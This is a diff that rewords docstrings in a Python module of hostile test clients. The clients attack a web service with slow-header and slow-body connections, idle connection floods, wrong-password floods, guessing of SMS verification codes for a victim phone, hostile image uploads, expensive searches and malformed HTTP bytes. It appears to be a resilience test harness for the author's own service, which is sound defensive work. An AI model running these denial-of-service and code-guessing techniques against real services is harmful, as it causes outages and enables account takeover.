@@ -1,8 +1,8 @@
 """Clients that want to stop the service, each from an address of its own: uploads, hashes, idle and slow connections, odd queries.
 
-Each is a function that goes on until it is told to end, in a process of its own, and counts what it was answered. Nothing here keeps
-to any manners: no answer waited for where leaving is cheaper, and several times as often as the service allows. Each has a pace all the
-same: it shares the processors with the service that it attacks, and above it a refusal costs its sender more than the service.
+Each attack is a function that runs in a process of its own until it is told to end, and counts the answers. A client waits for no answer
+if leaving is cheaper, and sends several times as many requests as the service allows. Its rate is limited all the same, because it shares
+the processors with the attacked service: at a higher rate, a refusal would cost the client more than the service.
 """
 
 import http.client
@@ -26,7 +26,7 @@ PROMISED = 8 * 1_024 * 1_024
 
 
 class Client:
-    """One hostile client: where it sits, whom it attacks, and what it was answered."""
+    """One hostile client: its address, the server that it attacks, and the answers that it got."""
 
     def __init__(self, address, server, sms, pictures, seed):
         self.address, self.server, self.sms, self.pictures = address, server, sms, pictures
@@ -36,7 +36,7 @@ class Client:
         self.next = time.monotonic()
 
     def pace(self, per_second):
-        """Waits so long that it comes so often; what was missed is not made up for."""
+        """Waits so that calls come at this rate. Calls that came late are not made up for."""
         now = time.monotonic()
         self.next = max(self.next + 1 / per_second, now)
         time.sleep(self.next - now)
@@ -48,7 +48,7 @@ class Client:
         return socket.create_connection(self.server, timeout=30, source_address=(self.address, 0))
 
     def ask(self, method, path, body=None, token=None, kind="application/json", extra=None):
-        """One request on a kept connection. Returns status and body; status 0 where there was no answer."""
+        """Sends one request on a kept connection. Returns status and body; status 0 without an answer."""
         headers = {"Content-Type": kind} if body is not None else {}
         headers.update(extra or {})
         if token:
@@ -74,7 +74,7 @@ class Client:
         self.link = None
 
     def sign_in(self, phone):
-        """Returns an access token, or None where the service refuses."""
+        """Returns an access token; None if the service refuses."""
         status, _ = self.ask("POST", "/v1/verifications", json.dumps({"phone": phone}))
         if status != 202:
             return None
@@ -83,7 +83,7 @@ class Client:
 
 
 def sent_code(sms, phone, seconds=30):
-    """The newest code that the service sent to a phone, as its file of messages has it."""
+    """The newest code that the service sent to a phone, from the service's file of messages."""
     end = time.monotonic() + seconds
     while time.monotonic() < end:
         with open(sms, encoding="utf-8") as file:
@@ -99,7 +99,7 @@ def sent_code(sms, phone, seconds=30):
 
 
 def pictures(client, ends):
-    """Uploads the corpus of hostile pictures again and again."""
+    """Uploads all hostile pictures again and again."""
     files = sorted(os.listdir(client.pictures))
     token = None
     number = client.random.randrange(10**7)
@@ -119,7 +119,7 @@ def pictures(client, ends):
 
 
 def passwords(client, ends):
-    """Signs in by wrong passwords, and leaves before the answer."""
+    """Signs in with wrong passwords, and closes the connection before the answer."""
     while not ends():
         client.pace(CONNECTIONS_PER_SECOND)
         body = json.dumps({"phone": f"+86138{client.random.randrange(10**8):08d}", "password": "correct horse battery"})
@@ -133,7 +133,7 @@ def passwords(client, ends):
 
 
 def codes(client, ends):
-    """Asks for codes to one victim's phone, and guesses them."""
+    """Requests codes for one victim's phone, and guesses them."""
     victim = "+8613700000001"
     while not ends():
         client.pace(REQUESTS_PER_SECOND / 11)
@@ -143,7 +143,7 @@ def codes(client, ends):
 
 
 def crowd(client, ends, hello, drip):
-    """Holds as many connections as it gets; each says `hello`, and then `drip` once a second."""
+    """Holds as many connections as the service accepts. Each sends `hello`, and then `drip` once a second."""
     links, chosen = {}, selectors.DefaultSelector()
 
     def close(link):
@@ -184,17 +184,17 @@ def crowd(client, ends, hello, drip):
 
 
 def idle(client, ends):
-    """Opens connections and says nothing."""
+    """Opens connections and sends nothing."""
     crowd(client, ends, b"", b"")
 
 
 def slow_heads(client, ends):
-    """Sends a request's head a byte at a time."""
+    """Sends the head of a request one byte at a time."""
     crowd(client, ends, b"GET /v1/campaigns HTTP/1.1\r\nHost: a\r\nX-Slow: ", b"a")
 
 
 def slow_bodies(client, ends):
-    """Signs in, promises pictures of eight megabytes, and sends a byte at a time."""
+    """Signs in, announces pictures of eight megabytes, and sends one byte at a time."""
     token = client.sign_in(f"+86136{client.random.randrange(10**8):08d}")
     hello = (f"POST /v1/images HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer {token}\r\n"
              f"Content-Type: image/png\r\nContent-Length: {PROMISED}\r\n\r\n").encode()
@@ -202,7 +202,7 @@ def slow_bodies(client, ends):
 
 
 def queries(client, ends):
-    """Asks for what costs most to find."""
+    """Sends the most expensive searches."""
     orders = ["popular", "newest", "distance"]
     while not ends():
         client.pace(REQUESTS_PER_SECOND)
@@ -219,7 +219,7 @@ def queries(client, ends):
 
 
 def junk(client, ends):
-    """Sends what is no HTTP, or hardly."""
+    """Sends bytes that are not HTTP, or barely."""
     kinds = [
         lambda: client.random.randbytes(2_048),
         lambda: b"GET / HTTP/1.1\r\n" + b"X: " + b"a" * 100_000 + b"\r\n\r\n",
@@ -257,7 +257,7 @@ ALL = [pictures, pictures, passwords, passwords, codes, idle, slow_heads, slow_b
 
 
 def run(attack, client, results):
-    """The whole of a hostile client's process: attacks until SIGTERM, then says what it was answered.
+    """The work of a hostile client's process: attacks until SIGTERM, then reports the answers that the client got.
 
     It gets only the processor time that the service and the honest clients leave: a hostile client's own machine would take none of theirs.
     A nice process would still finish its slice of some milliseconds when the service wakes up.
